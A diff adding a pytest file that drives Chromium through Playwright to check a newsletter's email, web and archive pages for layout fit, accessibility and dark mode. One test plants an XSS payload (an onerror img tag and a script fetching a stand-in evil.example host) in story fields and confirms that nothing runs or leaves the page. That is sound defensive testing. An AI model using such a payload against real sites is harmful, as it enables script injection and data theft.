@@ -1,0 +1,125 @@
+"""The edition in a real browser, on a phone and a desktop, light and dark: it fits, it can be read, nothing runs or leaves.
+
+Pictures are written with `pytest --screenshots DIR tests/edition/test_digest_in_browser.py`.
+"""
+
+import shutil
+from collections.abc import Iterator
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from flows.publishing.archive import ArchiveEntry, render_index
+from flows.publishing.view import Links
+from models.edition.content import EditionContent
+from tests.support.fakes_rendering import (
+    render,
+    render_web,
+    week_content,  # noqa: F401 - a fixture
+)
+
+playwright = pytest.importorskip("playwright.sync_api", reason="pip install '.[test]' brings Playwright")
+CHROMIUM = next(
+    (found for name in ("chromium", "chromium-browser", "google-chrome") if (found := shutil.which(name))), None
+)
+if CHROMIUM is None:
+    pytest.skip("no Chromium on the path: `apt-get install chromium` brings one", allow_module_level=True)
+
+LINKS = Links(
+    "https://monitor.example.org/2026-W47.html",
+    "https://monitor.example.org/index.html",
+    "https://monitor.example.org/unsubscribe/x",
+)
+PAGES = ("email", "web", "index")
+RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
+TALLEST = 16_000  # pixels; Chromium draws no taller picture
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with playwright.sync_playwright() as started:
+        opened = started.chromium.launch(
+            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
+        )
+        yield opened
+        opened.close()
+
+
+@pytest.fixture(scope="module")
+def pages(content: EditionContent) -> dict[str, str]:
+    entry = ArchiveEntry("2026-W47", "Speaking up rises: 13 stories from 11 outlets", 36, 11, 110)
+    return {"email": render(content, LINKS).html, "web": render_web(content), "index": render_index([entry])}
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [320, 375, 700])
+@pytest.mark.parametrize("name", PAGES)
+def test_it_fits_and_can_be_read(
+    browser: Any,
+    pages: dict[str, str],
+    name: str,
+    width: int,
+    scheme: str,
+    request: pytest.FixtureRequest,
+    tmp_path: Path,
+) -> None:
+    axe = pytest.importorskip("axe_core_python.base", reason="pip install axe-core-python brings axe-core")
+    page = browser.new_page(viewport={"width": width, "height": 900}, color_scheme=scheme, bypass_csp=True)
+    try:
+        page.set_content(pages[name])
+        sizes = page.evaluate("[document.documentElement.scrollWidth, document.documentElement.scrollHeight]")
+        wide = page.evaluate(
+            "[...document.querySelectorAll('body *')].filter(e => e.getBoundingClientRect().right > innerWidth + 1)"
+            ".map(e => e.outerHTML.slice(0, 120))"
+        )
+        folder = request.config.getoption("--screenshots") or tmp_path
+        folder.mkdir(parents=True, exist_ok=True)
+        clip = {"x": 0, "y": 0, "width": width, "height": min(sizes[1], TALLEST)}
+        page.screenshot(path=folder / f"{name}-{scheme}-{width}.png", full_page=True, clip=clip)
+        assert sizes[0] == width
+        assert wide == []
+        if width != 375:  # contrast and landmarks are the same at every width, and axe takes its time
+            return
+        page.evaluate(axe.AXE_SCRIPT)
+        found = page.evaluate("rules => axe.run(document, {runOnly: {type: 'tag', values: rules}})", RULES)
+    finally:
+        page.close()
+    problems = [f"{one['id']}: {one['nodes'][0]['html'][:200]}" for one in found["violations"]]
+    assert problems == []
+    assert len(found["passes"]) > 10
+
+
+@pytest.mark.parametrize("name", ["email", "web"])
+def test_nothing_runs_and_nothing_leaves(browser: Any, content: EditionContent, name: str) -> None:
+    evil = "<img src=https://evil.example/p.png onerror=alert(1)><script>fetch('https://evil.example')</script>"
+    stories = tuple(
+        replace(story, title=evil, outlet=evil, themes=tuple(replace(theme, quote=evil) for theme in story.themes))
+        for story in content.stories
+    )
+    hostile = replace(content, stories=stories)
+    html = render(hostile, LINKS).html if name == "email" else render_web(hostile)
+    page = browser.new_page()
+    events: list[str] = []
+    page.on("request", lambda request: events.append(request.url))
+    page.on("dialog", lambda dialog: events.append("dialog"))
+    page.on("console", lambda message: events.append(message.text))
+    try:
+        page.set_content(html)
+        page.wait_for_timeout(200)
+        assert page.evaluate("document.scripts.length + document.images.length") == 0
+    finally:
+        page.close()
+    assert events == []
+
+
+def test_the_dark_colours_are_dark(browser: Any, pages: dict[str, str]) -> None:
+    for name in PAGES:
+        shades = {}
+        for scheme in ("light", "dark"):
+            page = browser.new_page(color_scheme=scheme)
+            page.set_content(pages[name])
+            shades[scheme] = page.evaluate("getComputedStyle(document.querySelector('h1')).color")
+            page.close()
+        assert shades["light"] != shades["dark"], name
